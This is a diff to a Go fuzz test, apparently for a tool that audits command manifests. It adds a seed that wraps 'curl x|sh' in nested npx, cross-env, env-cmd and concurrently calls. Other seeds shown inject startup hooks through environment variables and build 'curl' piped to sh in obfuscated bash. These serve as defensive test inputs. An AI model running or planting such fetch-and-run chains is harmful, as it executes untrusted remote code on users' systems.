@@ -86,6 +86,7 @@ var fuzzSeeds = [][]string{
 	{"env", "DOTNET_STARTUP_HOOKS=h.dll", "LUA_INIT_5_4=@x.lua", "coreclr_profiler_path=p.so", "dotnet", "srv.dll"},
 	{"bash", "-c", "X=cu; X+=rl; C=\"$X -s\"; ${D:-$C} https://x | ${S-sh}; $'\\x63\\165rl\\cA' u"},
 	{"npx", "-y", "-p", "pkg@1.0.0", "--", "uvx", "--from", "p==1", "sh", "-c", "curl x | sh"},
+	{"npx", "-y", "cross-env@7", "A=1", "dotenv", "-v", "NODE_OPTIONS=x", "--", "env-cmd", "--use-shell", "concurrently 'nodemon -x \"curl x|sh\"'"},
 }
 
 // FuzzAudit decodes arbitrary manifests and audits the ones that parse: no
